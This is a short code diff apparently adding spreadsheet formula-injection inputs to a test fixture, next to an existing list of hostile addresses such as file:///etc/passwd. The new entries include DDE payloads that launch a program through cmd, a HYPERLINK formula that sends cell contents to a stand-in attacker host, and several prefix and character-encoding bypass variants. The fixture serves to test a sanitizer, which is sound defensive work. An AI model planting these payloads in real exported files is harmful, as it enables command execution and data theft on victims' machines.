@@ -32,3 +32,22 @@ export const HOSTILE_ADDRESSES = [
   'file:///etc/passwd',
   'https://bank.example@evil.example',
 ]
+
+/** What a spreadsheet would run, or take apart, where a cell begins with it. */
+export const FORMULAS = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1,"x")',
+  "+1-1|cmd|' /C calc'!A0",
+  '-2+3+cmd|x',
+  '@SUM(1+1)*cmd|x',
+  '\t=1+1',
+  ' =1+1',
+  '\r=1+1',
+  '\uFF1D1+1',
+  '\uFF0B1+1',
+  "'=1+1",
+  '"=1+1"',
+  '",=1+1,"',
+  'x\r\n=1+1',
+  ';=1+1',
+]
